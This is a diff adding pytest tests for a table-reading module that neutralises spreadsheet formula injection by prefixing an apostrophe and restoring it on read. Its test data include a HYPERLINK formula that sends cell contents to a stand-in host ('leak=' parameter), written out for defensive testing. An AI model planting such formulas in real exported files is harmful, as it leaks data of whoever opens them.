@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import unicodedata
 import zipfile
@@ -11,7 +12,7 @@ import openpyxl
 import pytest
 
 from dti.engine.errors import InputError
-from dti.engine.tables import column_letter, normalize_header, read_table
+from dti.engine.tables import column_letter, normalize_header, read_table, spreadsheet_text, spreadsheet_value
 
 
 def write(path: Path, text: str) -> Path:
@@ -392,3 +393,41 @@ def test_corrupt_xlsx_is_refused(tmp_path: Path, data: bytes) -> None:
 def test_xlsx_extension_is_case_insensitive(tmp_path: Path) -> None:
     path = workbook(tmp_path / "A.XLSX", {"S": [["unit"], ["A"]]})
     assert values(read_table(path)) == [{"unit": "A"}]
+
+
+FORMULA_TEXTS = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)", "\tx", "\rx", "-"]
+
+
+@pytest.mark.parametrize("text", FORMULA_TEXTS)
+def test_spreadsheet_text_neutralises_a_formula_and_reads_back(text: str) -> None:
+    assert spreadsheet_text(text) == "'" + text
+    assert spreadsheet_value(spreadsheet_text(text)) == text
+
+
+@pytest.mark.parametrize("text", ["UBND huyện Một", "", "'quoted", "'", "1,5", "−1,67", "a=b", " =x"])
+def test_spreadsheet_text_leaves_other_text(text: str) -> None:
+    assert spreadsheet_text(text) == text
+    assert spreadsheet_value(text) == text  # an apostrophe not before a dangerous character is the person's own
+
+
+def test_spreadsheet_value_drops_exactly_one_apostrophe() -> None:
+    assert spreadsheet_text("'=x") == "''=x"  # a person's own apostrophe before "=" survives the round trip
+    assert spreadsheet_value("''=x") == "'=x"
+    assert spreadsheet_value("'=x") == "=x"
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_read_table_reads_neutralised_text_back(tmp_path: Path, suffix: str) -> None:
+    rows = [["unit", "value"], *([spreadsheet_text(text), -1.5] for text in FORMULA_TEXTS)]
+    path = tmp_path / f"t{suffix}"
+    if suffix == ".csv":
+        with path.open("w", encoding="utf-8", newline="") as handle:
+            csv.writer(handle).writerows(rows)
+    else:
+        workbook = openpyxl.Workbook()
+        for row in rows:
+            workbook.active.append(row)
+        workbook.save(path)
+    table = read_table(path)
+    assert [row.cells["unit"].value for row in table.rows] == FORMULA_TEXTS
+    assert {str(row.cells["value"].value) for row in table.rows} == {"-1.5"}  # a negative number stays as written
